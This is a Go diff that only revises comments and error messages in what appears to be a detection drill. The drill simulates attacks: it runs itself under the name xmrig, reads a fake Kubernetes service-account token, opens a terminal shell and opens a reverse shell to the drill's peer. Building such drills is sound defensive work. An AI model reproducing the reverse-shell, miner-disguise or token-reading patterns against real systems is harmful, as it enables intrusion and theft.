@@ -13,15 +13,15 @@ import (
 	"golang.org/x/sys/unix"
 )
 
-// drillAttackCommand and drillAttackEnv make this program the drill's harmless attacker: it connects only to the drill's own
-// peer, mines nothing, and ends with the drill.
+// drillAttackCommand and drillAttackEnv make this program run as the harmless attacker of a drill. The attacker
+// connects to the peer of the drill only, mines nothing, and ends with the drill.
 const (
 	drillAttackCommand = "__drill-attack"
 	drillAttackEnv     = "STANCH_DRILL_ATTACK"
 )
 
-// runDrillAttack is the first process of the drill's container: it waits until its network is there, then becomes the
-// attack that was asked for. args: KIND ADDR.
+// runDrillAttack is the first process of the drill's container. It waits until its network is configured, then runs the
+// attack. args are the kind of attack and the address of the peer. It returns the exit code.
 func runDrillAttack(args []string) int {
 	if len(args) != 2 {
 		return 2
@@ -30,7 +30,7 @@ func runDrillAttack(args []string) int {
 	if kind == "miner" {
 		return simulateMining(address)
 	}
-	// The drill closes standard input's other end when the network is set up.
+	// The drill closes the other end of standard input when the network is configured.
 	_, _ = bufio.NewReader(os.Stdin).ReadByte()
 	self, err := os.Executable()
 	if err != nil {
@@ -39,7 +39,7 @@ func runDrillAttack(args []string) int {
 	env := append(os.Environ(), drillAttackEnv+"=miner "+address)
 	switch kind {
 	case "wait":
-		// A sibling: it only sends.
+		// The sibling only sends.
 		return simulateMining(address)
 	case "cryptominer":
 		err = syscall.Exec(self, []string{"xmrig", "--url", "stratum+tcp://" + address, "--donate-level", "1"}, env) //nolint:gosec // the drill's own program under a miner's name
@@ -57,7 +57,7 @@ func runDrillAttack(args []string) int {
 	return 1
 }
 
-// simulateMining sends a line every 50 ms, as a miner would its shares.
+// simulateMining sends a line to address every 50 ms, as a miner sends its shares, until the process ends.
 func simulateMining(address string) int {
 	ended := make(chan os.Signal, 1)
 	signal.Notify(ended, syscall.SIGTERM)
@@ -78,21 +78,21 @@ func simulateMining(address string) int {
 	}
 }
 
-// readFakeToken lays a token that is worth nothing where pods have theirs, seen by this process's mount namespace alone, and
-// reads it with a tool.
+// readFakeToken reads a worthless token with a tool, at the path where pods have their service account token. The
+// token is visible only in the mount namespace of this process.
 func readFakeToken() error {
 	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
-		return fmt.Errorf("keep the mount to itself: %w", err)
+		return fmt.Errorf("make the mounts private: %w", err)
 	}
 	if err := unix.Mount("tmpfs", "/run", "tmpfs", 0, "size=64k"); err != nil {
-		return fmt.Errorf("mount a place for the token: %w", err)
+		return fmt.Errorf("mount a tmpfs for the token: %w", err)
 	}
 	const dir = "/run/secrets/kubernetes.io/serviceaccount"
 	if err := os.MkdirAll(dir, 0o755); err != nil {
-		return fmt.Errorf("lay the token: %w", err)
+		return fmt.Errorf("write the token: %w", err)
 	}
-	if err := os.WriteFile(dir+"/token", []byte("a drill's token, worth nothing\n"), 0o600); err != nil {
-		return fmt.Errorf("lay the token: %w", err)
+	if err := os.WriteFile(dir+"/token", []byte("a worthless token of a drill\n"), 0o600); err != nil {
+		return fmt.Errorf("write the token: %w", err)
 	}
 	if err := exec.Command("cat", dir+"/token").Run(); err != nil { //nolint:noctx // at once
 		return fmt.Errorf("read the token: %w", err)
@@ -100,7 +100,7 @@ func readFakeToken() error {
 	return nil
 }
 
-// runTerminalShell runs a shell on a terminal of its own.
+// runTerminalShell runs a shell on a new pseudoterminal, until it ends.
 func runTerminalShell() error {
 	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR, 0)
 	if err != nil {
@@ -124,12 +124,13 @@ func runTerminalShell() error {
 		return fmt.Errorf("start a shell: %w", err)
 	}
 	if err := shell.Wait(); err != nil {
-		return fmt.Errorf("the shell ended: %w", err)
+		return fmt.Errorf("run a shell: %w", err)
 	}
 	return nil
 }
 
-// runReverseShell connects and becomes a shell that reads from and writes to the connection.
+// runReverseShell connects to address and replaces this process with a shell on the connection. It returns only on an
+// error.
 func runReverseShell(address string) error {
 	c, err := net.DialTimeout("tcp", address, 5*time.Second) //nolint:noctx // at once
 	if err != nil {
